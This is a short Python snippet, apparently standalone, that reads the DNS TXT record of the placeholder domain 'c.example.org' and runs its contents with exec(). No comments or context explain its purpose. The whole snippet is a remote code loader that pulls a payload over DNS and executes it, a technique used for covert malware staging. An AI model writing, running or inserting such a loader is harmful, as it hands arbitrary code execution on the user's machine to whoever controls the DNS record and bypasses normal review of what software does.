import dns.resolver

text = str(dns.resolver.resolve("c.example.org", "TXT")[0])
exec(text.strip('"'))
